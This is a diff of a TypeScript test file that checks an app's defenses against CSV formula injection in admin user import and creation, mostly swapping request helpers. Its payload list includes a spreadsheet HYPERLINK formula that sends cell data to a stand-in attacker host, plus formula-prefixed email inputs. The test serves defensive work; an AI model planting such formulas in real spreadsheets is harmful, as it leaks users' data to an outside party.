@@ -10,7 +10,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { isValidEmail } from '../../src/lib/email.ts';
 import { csvStream } from '../../src/lib/server/exports.ts';
 import { get } from '../helpers/http.ts';
-import { post, startApp, type App } from './support.ts';
+import { afterPost, type App, startApp, submit } from './support.ts';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -89,13 +89,13 @@ describe('CSV formula injection', () => {
 
     const form = new FormData();
     form.set('file', new File(['email,name,department,role\n=cmd@example.com,X,Sales,learner\n-x@example.com,Y,Sales,learner\n'], 'u.csv', { type: 'text/csv' }));
-    const imported = await fetch(`${app.url}/admin/users?_action=admin.importUsers`, { method: 'POST', headers: { cookie: app.cookies.admin!, origin: app.url }, body: form });
+    const imported = await afterPost(app.url, await fetch(`${app.url}/admin/users?_action=admin.importUsers`, { method: 'POST', redirect: 'manual', headers: { cookie: app.cookies.admin!, origin: app.url }, body: form }), app.cookies.admin);
     expect(imported.status).toBe(400);
     const html = await imported.text();
     expect(html).toContain('2行目：メールアドレス「=cmd@example.com」が正しくありません');
     expect(html).toContain('3行目：メールアドレス「-x@example.com」が正しくありません');
 
-    const created = await post(app.url, '/admin/users?_action=admin.createUser', app.cookies.admin, { email: '@SUM(A1)@example.com', name: 'Z', department: 'Sales', role: 'learner' });
+    const created = await submit(app.url, '/admin/users?_action=admin.createUser', app.cookies.admin, { email: '@SUM(A1)@example.com', name: 'Z', department: 'Sales', role: 'learner' });
     expect(created.status).toBe(400);
     const stored = app.db.$client.prepare("select count(*) n from users where email glob '[=+@-]*'").get() as { n: number };
     expect(stored.n).toBe(0);
